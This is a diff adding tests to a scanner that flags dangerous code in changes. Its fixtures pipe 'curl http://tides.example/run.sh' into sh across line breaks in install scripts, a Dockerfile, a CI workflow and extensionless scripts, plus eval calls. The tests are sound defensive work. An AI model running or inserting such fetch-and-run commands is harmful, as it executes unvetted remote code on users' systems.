@@ -2,6 +2,7 @@
 
 import random
 import time
+from dataclasses import replace
 from pathlib import Path
 
 import pyarrow.parquet as pq
@@ -91,6 +92,50 @@ def test_a_call_over_several_lines_is_found_where_one_of_them_is_added() -> None
 )
 def test_a_hunk_that_begins_within_a_block_is_read(hunk: str) -> None:
     assert "python-shell-built-text" in rules_found(dangerous.scan, marked_lines(hunk))
+
+
+FETCHED = "curl http://tides.example/run.sh"
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("install.sh", f"{FETCHED} \\\n  | sh"),
+        ("install.sh", f"{FETCHED} |\n  sh"),
+        ("Dockerfile", f"RUN apt-get update && \\\n  {FETCHED} \\\n  | sh"),
+        (".github/workflows/a.yml", f"run: |\n  {FETCHED} \\\n    | sh"),
+        ("bin/setup", f"#!/usr/bin/env bash\n{FETCHED} | sh"),
+        ("bin/setup", f"#!/bin/sh\n\n{FETCHED} \\\n| sh"),
+    ],
+)
+def test_a_command_over_lines_or_in_a_file_without_a_suffix_is_read(path: str, text: str) -> None:
+    assert "shell-download-and-run" in rules_found(dangerous.scan, added_lines(text, path))
+
+
+def test_a_command_goes_on_over_added_lines_that_follow_each_other_only() -> None:
+    assert found(dangerous.scan, marked_lines(f"+{FETCHED} \\\n context\n+| sh\n", "install.sh")) == []
+    assert found(dangerous.scan, added_lines(f"{FETCHED}\n| sh", "install.sh")) == []
+
+
+@pytest.mark.parametrize(
+    ("first", "rule"),
+    [
+        ("#!/usr/bin/env python3", "python-eval-dynamic"),
+        ("#!/usr/bin/python3.11 -I", "python-eval-dynamic"),
+        ("#!/usr/bin/env -S node --no-warnings", "javascript-eval-dynamic"),
+    ],
+)
+def test_a_file_without_a_suffix_is_what_its_first_line_says(first: str, rule: str) -> None:
+    assert rule in rules_found(dangerous.scan, added_lines(f"{first}\nx = eval(y)", "bin/tool"))
+    assert rules_found(dangerous.scan, marked_lines("+x = eval(y)\n", "bin/tool")) == set()
+
+
+def test_a_program_whose_first_line_the_change_does_not_show_is_read_as_a_shells() -> None:
+    program = replace(marked_lines(f" x\n+{FETCHED} | sh\n", "bin/tool"), new_mode="100755")
+    shifted = replace(
+        program.hunks[0], lines=tuple(replace(line, new=(line.new or 0) + 40) for line in program.hunks[0].lines)
+    )
+    assert "shell-download-and-run" in rules_found(dangerous.scan, replace(program, hunks=(shifted,)))
 
 
 def test_a_comment_or_a_text_that_only_speaks_of_it_is_no_finding() -> None:
